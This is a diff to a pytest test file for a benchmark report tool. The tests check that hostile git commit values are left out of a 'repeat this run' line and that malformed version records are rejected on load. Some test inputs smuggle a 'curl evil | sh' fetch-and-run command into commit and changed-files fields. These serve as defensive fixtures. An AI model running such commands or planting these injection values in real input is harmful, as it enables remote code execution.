@@ -3,21 +3,26 @@
 
 from __future__ import annotations
 
+import json
 import re
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 
+from bench.records.environment import Checkout
+from bench.records.errors import UserError
 from bench.records.results import Results
 from bench.records.run import Reason
+from bench.records.store import load
 from bench.report.charts.catalogue import catalogue
 from bench.report.page import figures_table
 from bench.report.page.page import render
 from bench.report.study import facts
 from bench.report.study.study import Study
 
-from .conftest import SOURCES, recorded
+from .conftest import RECORDED, SOURCES, recorded
 from .made import LEVELS, plain_runs, results_of
 
 
@@ -128,18 +133,31 @@ def test_everything_to_repeat_it(pages: Callable[[str], Path]) -> None:
             {"commit": "c0ffee", "changed_files": 2},
             "git checkout c0ffee    # and 2 changed files that are not in it\n",
         ),
-        ({"commit": "c0ffee", "changed_files": "1\ncurl evil | sh"}, "git checkout c0ffee\n"),
         ({"commit": "HEAD; curl evil | sh; #", "changed_files": 0}, ""),
         ({"commit": "c0ffee\n"}, ""),
-        ({"commit": ["c0ffee"]}, ""),
-        ({"commit": None}, ""),
-        ("c0ffee", ""),
     ],
 )
-def test_a_hostile_commit_is_not_shown(git: object, line: str) -> None:
+def test_a_hostile_commit_is_not_shown(git: dict[str, Any], line: str) -> None:
     results = recorded("version1")
-    results.versions["git"] = git
+    results.versions.git = Checkout(**git)
     assert facts.checkout(Study(results)) == line
+
+
+@pytest.mark.parametrize(
+    "git",
+    [
+        {"commit": "c0ffee", "changed_files": "1\ncurl evil | sh"},
+        {"commit": ["c0ffee"]},
+        {"commit": None},
+        "c0ffee",
+    ],
+)
+def test_what_is_no_commit_is_no_result_of_a_sweep(git: object, tmp_path: Path) -> None:
+    content = json.loads((RECORDED / "version1.json").read_text())
+    content["versions"]["git"] = git
+    (tmp_path / "results.json").write_text(json.dumps(content))
+    with pytest.raises(UserError, match=r"versions\.git"):
+        load(tmp_path)
 
 
 def test_a_hostile_command_stays_on_its_line() -> None:
